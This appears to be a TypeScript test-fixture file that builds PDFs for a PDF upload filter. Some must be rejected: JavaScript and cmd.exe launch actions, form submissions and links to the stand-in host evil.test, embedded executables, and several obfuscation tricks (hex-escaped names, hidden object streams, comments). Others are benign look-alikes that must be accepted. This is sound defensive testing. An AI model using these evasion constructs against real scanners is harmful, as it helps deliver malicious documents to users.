import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'

/** The bytes of a PDF of these objects, numbered from 1; the first is the root. */
export function pdfOfObjects(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n')]
  for (const [i, object] of objects.entries())
    parts.push(
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.from(object as string, 'latin1'),
      Buffer.from('\nendobj\n'),
    )
  const at = Buffer.concat(parts).length
  parts.push(
    Buffer.from(
      `xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

/** A stream of objects as writers pack them; `how` replaces what its dictionary says of the packing. */
function packed(objects: string, { how = '/Filter/FlateDecode', type = '/Type/ObjStm' } = {}): Buffer {
  const bytes = how.includes('FlateDecode') ? deflateSync(objects) : Buffer.from(objects)
  return Buffer.concat([
    Buffer.from(`<<${type}/N 1/First 4${how}/Length ${bytes.length}>>\nstream\r\n`),
    bytes,
    Buffer.from('\nendstream'),
  ])
}

export const ROOT = '<</Type/Catalog/Pages 2 0 R>>'
export const PAGES = '<</Type/Pages/Kids[]/Count 0>>'
const SCRIPT = '<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>'
export const root = (action: string) => `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`

/** Creates a PDF form with a library: with fields, or with computing fields. */
function form(withScript: boolean): Promise<Buffer> {
  return new Promise((resolve) => {
    const document = new PDFDocument({ size: 'A6' })
    const chunks: Buffer[] = []
    document.on('data', (chunk: Buffer) => chunks.push(chunk))
    document.on('end', () => resolve(Buffer.concat(chunks)))
    document.font('Helvetica').text('Name')
    document.initForm()
    document.formText('name', 10, 60, 200, 20, { value: 'Mina' })
    document.formCheckbox('agree', 10, 100, 20, 20)
    if (withScript) document.addNamedJavaScript('total', 'this.getField("name").value = "x"')
    document.end()
  })
}

/** PDFs that run something, by how it is hidden; none may be kept. */
export async function activePdfs(): Promise<Record<string, Buffer>> {
  return {
    'a script that runs at once': pdfOfObjects([root(SCRIPT), PAGES]),
    'a script in an object of its own': pdfOfObjects([root('3 0 R'), PAGES, SCRIPT]),
    'a form with a script, as a library writes it': await form(true),
    'a kind with letters as numbers': pdfOfObjects([root('<</#53 /J#61vaScr#69pt/JS(x)>>'), PAGES]),
    'a kind far behind its key': pdfOfObjects([
      root(`<</S\r\n%a comment (\n${' '.repeat(300)}/JavaScript/JS(x)>>`),
      PAGES,
    ]),
    'a kind in an object of its own': pdfOfObjects([root('<</S 3 0 R/JS(x)>>'), PAGES, '/JavaScript']),
    'a script behind an open bracket': pdfOfObjects([ROOT, PAGES, '(never closed', root(SCRIPT)]),
    'a script in a stream that says it has ended': pdfOfObjects([
      root('4 0 R'),
      PAGES,
      '<</Length 99>>stream\nendstream\n(',
      SCRIPT,
    ]),
    'a program that is started': pdfOfObjects([root('<</S/Launch/F(cmd.exe)>>'), PAGES]),
    'a film with a script': pdfOfObjects([root('<</Type/Action/S/Rendition/JS(x)>>'), PAGES]),
    'a packed script': pdfOfObjects([root('4 0 R'), PAGES, packed(`4 0 ${SCRIPT}`)]),
    'a packed program': pdfOfObjects([root('4 0 R'), PAGES, packed('4 0 <</S /Launch/Win<</F(cmd.exe)>>>>')]),
    'a packed script of a stream that does not say what it is': pdfOfObjects([
      ROOT,
      PAGES,
      packed(`4 0 ${SCRIPT}`, { type: '' }),
    ]),
    'a packed script behind many others': pdfOfObjects([
      ROOT,
      PAGES,
      packed(`4 0 ${'<</Type/Annot/Rect[0 0 9 9]>>'.repeat(20_000)}${SCRIPT}`),
    ]),
    'objects packed in a way that cannot be looked into': pdfOfObjects([
      ROOT,
      PAGES,
      packed('hello', { how: '/Filter[/ASCIIHexDecode/LZWDecode]' }),
    ]),
    'packed objects that are damaged': pdfOfObjects([
      ROOT,
      PAGES,
      '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\nnothing that was ever packed\nendstream',
    ]),
    'more packed objects than a document has': pdfOfObjects([
      ROOT,
      PAGES,
      packed(`4 0 ${' '.repeat(25_000_000)}`),
    ]),
  }
}

export const URI = '<</S/URI/URI(https://evil.test)>>'
const SUBMIT = '<</S/SubmitForm/F<</FS/URL/F(https://evil.test)>>>>'
export const JUMP = '<</S/GoTo/D[4 0 R/Fit]>>'

/** An object stream as a writer packs it: the numbers and places of its objects in front of them. */
export function packedObjects(objects: Record<number, string>, type = '/Type/ObjStm'): Buffer {
  const bodies = Object.values(objects).join(' ')
  let at = 0
  const index = Object.entries(objects)
    .map(([number, body]) => {
      const place = `${number} ${at}`
      at += body.length + 1
      return place
    })
    .join(' ')
  const bytes = deflateSync(`${index} ${bodies}`)
  const count = Object.keys(objects).length
  return Buffer.concat([
    Buffer.from(
      `<<${type}/N ${count}/First ${index.length + 1}/Filter/FlateDecode/Length ${bytes.length}>>\nstream\r\n`,
    ),
    bytes,
    Buffer.from('\nendstream'),
  ])
}

/** PDFs that do something without a click when they are opened, closed or touched; none may be kept. */
export function selfActingPdfs(): Record<string, Buffer> {
  const events = (of: string) => `<</Type/Catalog/Pages 2 0 R/AA ${of}>>`
  return {
    'opens a page of the web': pdfOfObjects([root(URI), PAGES]),
    'sends a form': pdfOfObjects([root(SUBMIT), PAGES]),
    'opens a file of a share': pdfOfObjects([root('<</S/GoToR/F(\\\\\\\\evil.test\\\\x)/D[0/Fit]>>'), PAGES]),
    'prints itself': pdfOfObjects([root('<</S/Named/N/Print>>'), PAGES]),
    'does so in an object of its own': pdfOfObjects([root('3 0 R'), PAGES, URI]),
    'does so behind a comment': pdfOfObjects([
      '<</Type/Catalog/OpenAction%\r\n%x\r\n3%y\r\n0 R>>',
      PAGES,
      `%z\r\n${URI}`,
    ]),
    'does so under a name with letters as numbers': pdfOfObjects([
      `<</Type/Catalog/Pages 2 0 R/Open#41ction<</#53/U#52I/URI(x)>>>>`,
      PAGES,
    ]),
    'does so in packed objects': pdfOfObjects([root('4 0 R'), PAGES, packedObjects({ 4: URI, 5: '<<>>' })]),
    'does so in packed objects from a packed root': pdfOfObjects([
      ROOT,
      PAGES,
      packedObjects({ 6: JUMP, 7: root('8 0 R'), 8: SUBMIT }),
    ]),
    'does so in packed objects whose dictionary names objects': pdfOfObjects([
      root('4 0 R'),
      PAGES,
      packedObjects({ 4: URI }, '/Type/ObjStm/X(1 0 obj)'),
    ]),
    'does so in packed objects behind a long dictionary': pdfOfObjects([
      root('4 0 R'),
      PAGES,
      packedObjects({ 4: URI }, `/Type/ObjStm/X(${' '.repeat(9000)})`),
    ]),
    'does so after a jump': pdfOfObjects([root(`<</S/GoTo/D[4 0 R/Fit]/Next[${JUMP} 3 0 R]>>`), PAGES, URI]),
    'has two kinds': pdfOfObjects([root('<</S/GoTo/S/URI/URI(x)>>'), PAGES]),
    'has its kind elsewhere': pdfOfObjects([root('<</S 3 0 R/URI(x)>>'), PAGES, '/URI']),
    'has two objects of one number': pdfOfObjects([root('3 0 R'), PAGES, JUMP, `(\nendobj\n3 0 obj ${URI}`]),
    'has no object to begin with': pdfOfObjects([root('9 0 R'), PAGES]),
    'has an object to begin with that is broken': pdfOfObjects([root('3 0 R'), PAGES, '<</S/GoTo']),
    'acts when a page is opened': pdfOfObjects([ROOT, PAGES, `<</Type/Page/AA<</O ${URI}>>>>`]),
    'acts when a page is closed, by reference': pdfOfObjects([
      ROOT,
      PAGES,
      '<</Type/Page/AA 4 0 R>>',
      '<</C 5 0 R>>',
      SUBMIT,
    ]),
    'acts when it is saved': pdfOfObjects([events(`<</WS ${SUBMIT}>>`), PAGES]),
    'acts when the mouse is moved': pdfOfObjects([
      ROOT,
      PAGES,
      `<</Type/Annot/Subtype/Widget/AA<</Fo ${JUMP}/E ${URI}>>>>`,
    ]),
    'is a form with a program of its own': pdfOfObjects([
      '<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 3 0 R/Fields[]>>>>',
      PAGES,
      '<</Length 3>>stream\n<x>\nendstream',
    ]),
    'says that it is encrypted, in a comment': pdfOfObjects([
      ROOT,
      PAGES,
      '%/Encrypt 9 0 R\n<</Encrypt 9 0 R>>',
      packed('hello', { how: '/Filter/LZWDecode' }),
    ]),
  }
}

/** PDFs with other files in them; none may be kept. */
export function pdfsWithFiles(): Record<string, Buffer> {
  const file = '<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream'
  const unnamed = '<</Length 2>>stream\nMZ\nendstream'
  return {
    'a file in the list of files': pdfOfObjects([
      '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a) 3 0 R]>>>>>>',
      PAGES,
      '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>',
      file,
    ]),
    'a file on a page, which does not say what it is': pdfOfObjects([
      ROOT,
      PAGES,
      '<</Type/Annot/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>',
      unnamed,
    ]),
    'files behind a reference': pdfOfObjects([
      ROOT,
      PAGES,
      '<</F(a.exe)/E#46 4 0 R>>',
      '<</UF 5 0 R>>',
      unnamed,
    ]),
    'a file named in packed objects': pdfOfObjects([
      ROOT,
      PAGES,
      packedObjects({ 6: '<</F(a.exe)/EF<</F 4 0 R>>>>' }),
      unnamed,
    ]),
  }
}

/** PDFs that people send and that look a little like those above; all must be taken. */
export async function harmlessPdfs(): Promise<Record<string, Buffer>> {
  const page = '<</Length 30>>stream\n(HTML/CSS/JavaScript) Tj\nendstream'
  return {
    'a form with fields': await form(false),
    'a page that is jumped to': pdfOfObjects([root('[3 0 R/Fit]'), PAGES, '<</Type/Page>>']),
    'a jump as an action': pdfOfObjects([root('<</S/GoTo/D[3 0 R/Fit]>>'), PAGES, '<</Type/Page>>']),
    'a page that is jumped to, by references': pdfOfObjects([
      root('3 0 R'),
      PAGES,
      '<</S/GoTo/D[4 0 R/XYZ null null 0]/Next 5 0 R>>',
      '<</Type/Page>>',
      JUMP,
    ]),
    'a jump in packed objects': pdfOfObjects([root('4 0 R'), PAGES, packedObjects({ 4: JUMP, 5: '<<>>' })]),
    'a page that is named': pdfOfObjects([root('(chapter one)'), PAGES]),
    'jumps when a page is opened': pdfOfObjects([ROOT, PAGES, `<</Type/Page/AA<</O ${JUMP}>>>>`]),
    'fonts called as keys that act': pdfOfObjects([
      ROOT,
      PAGES,
      '<</Font<</AA 4 0 R/EF 4 0 R>>>>',
      `<</Type/Font/Widths[${'500 '.repeat(200)}]/ToUnicode 5 0 R>>`,
    ]),
    'a picture in which such keys are read by chance': pdfOfObjects([
      ROOT,
      PAGES,
      `<</Length 30>>stream\n\xff\x00/AA\x01\xfe /EF)\x00/XFA\xff\nendstream`,
    ]),
    'an outline and a long stream behind it': pdfOfObjects([
      ROOT,
      PAGES,
      '<</Type/Outlines/First 4 0 R/Last 4 0 R/Count 1>>',
      '<</Length 9/X[<</A(obj)>>]>>\nstream\n(AAAAAAA)\nendstream',
    ]),
    links: pdfOfObjects([ROOT, PAGES, '<</Type/Annot/A<</S/URI/URI(https://tavan.test)>>>>']),
    'the words in a text': pdfOfObjects([ROOT, PAGES, page, '<</Title(Courses: /JavaScript /Launch %S)>>']),
    'fonts and names that begin alike': pdfOfObjects([
      ROOT,
      PAGES,
      '<</Font<</JS 3 0 R/S/JavaScriptSans>>>>',
    ]),
    'packed objects': pdfOfObjects([
      ROOT,
      PAGES,
      packed('4 0 <</Title(Learn CSS/JavaScript)/First 5 0 R>>'),
      packed(`5 0 ${'<</Type/StructElem/S/P>>'.repeat(50_000)}`),
    ]),
    'objects in a stream that is not packed': pdfOfObjects([ROOT, PAGES, packed('4 0 <<>>', { how: '' })]),
    'packed objects of an encrypted file': pdfOfObjects(
      [ROOT, PAGES, packed('4 0 <<>>').fill(0x41, 70, 75), '<</Filter/Standard/V 4>>'],
      '/Encrypt 4 0 R',
    ),
  }
}
